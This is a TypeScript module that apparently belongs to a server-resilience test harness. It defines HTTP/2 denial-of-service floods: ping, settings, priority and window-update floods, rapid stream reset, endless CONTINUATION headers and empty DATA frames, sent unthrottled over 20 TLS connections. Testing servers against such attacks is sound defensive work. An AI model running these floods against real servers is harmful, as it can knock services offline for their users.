/**
 * Attacks over HTTP/2 (RFC 9113), frame by frame, by somebody without a key.
 */
import type { Socket } from 'node:net';
import type { Attack } from './attack.ts';
import { flood } from './flood.ts';

const CONNECTIONS = 20;
const FRAME = {
  data: 0,
  headers: 1,
  priority: 2,
  reset: 3,
  settings: 4,
  ping: 6,
  windowUpdate: 8,
  continuation: 9,
} as const;
const END = { stream: 1, headers: 4 } as const;
const CANCEL = 8;
const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
/** The headers of a request: GET, https and / by the static table, and an authority (RFC 7541 Appendix A). */
const REQUEST = Buffer.from([0x82, 0x87, 0x84, 0x41, 1, 0x78]);
/** A literal header field that is not indexed: `a: ` and 4096 bytes. */
const LARGE_FIELD = Buffer.concat([Buffer.of(0, 1, 0x61, 0x7f, 0x81, 0x1f), Buffer.alloc(4096, 0x62)]);
/** How many frames a burst has. */
const BURST = 32;
/** The id of the first stream on a connection. Ids may not exceed 2^31. */
const FIRST_STREAM = 1;

/** The attacks, by their names in the table of results. */
export const HTTP2_ATTACKS: Readonly<Record<string, Attack>> = {
  'HTTP/2 pings': repeating(frame(FRAME.ping, 0, 0, Buffer.alloc(8))),
  'HTTP/2 settings': repeating(frame(FRAME.settings, 0, 0, Buffer.from('000300000100', 'hex'))),
  'HTTP/2 priorities': repeating(frame(FRAME.priority, 0, 1, Buffer.alloc(5, 1))),
  'HTTP/2 window updates': repeating(frame(FRAME.windowUpdate, 0, 0, Buffer.of(0, 0, 0, 1))),
  'HTTP/2 requests that are reset': perStream((stream) => [
    frame(FRAME.headers, END.headers | END.stream, stream, REQUEST),
    frame(FRAME.reset, 0, stream, Buffer.of(0, 0, 0, CANCEL)),
  ]),
  'HTTP/2 headers that never end': perStream((stream) => [
    frame(FRAME.headers, END.stream, stream, REQUEST),
    ...Array.from({ length: BURST }, () => frame(FRAME.continuation, 0, stream, LARGE_FIELD)),
  ]),
  'HTTP/2 empty data': perStream((stream) => [
    frame(FRAME.headers, END.headers, stream, REQUEST),
    ...Array.from({ length: BURST }, () => frame(FRAME.data, 0, stream, Buffer.alloc(0))),
  ]),
};

/** An attack that sends the same frame again and again. */
function repeating(one: Buffer): Attack {
  const bytes = Buffer.concat(Array.from({ length: BURST }, () => one));
  return flooding(() => ({ bytes, requests: BURST }));
}

/** An attack that opens a new stream with each burst. */
function perStream(framesOf: (stream: number) => readonly Buffer[]): Attack {
  const streams = new WeakMap<Socket, number>();
  return flooding((socket) => {
    const stream = streams.get(socket) ?? FIRST_STREAM;
    streams.set(socket, stream + 2);
    const frames = framesOf(stream);
    return { bytes: Buffer.concat(frames), requests: frames.length };
  });
}

function flooding(next: (socket: Socket) => { readonly bytes: Buffer; readonly requests: number }): Attack {
  const greet = async (socket: Socket) => {
    socket.write(Buffer.concat([PREFACE, frame(FRAME.settings, 0, 0, Buffer.alloc(0))]));
  };
  // Frames are limited only by the bytes a second.
  const requestsPerS = Number.POSITIVE_INFINITY;
  return ({ target, ...run }) =>
    flood(
      { port: target.httpPort, tls: true, protocol: 'h2', connections: CONNECTIONS, requestsPerS, greet, next },
      { target, ...run },
    );
}

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}
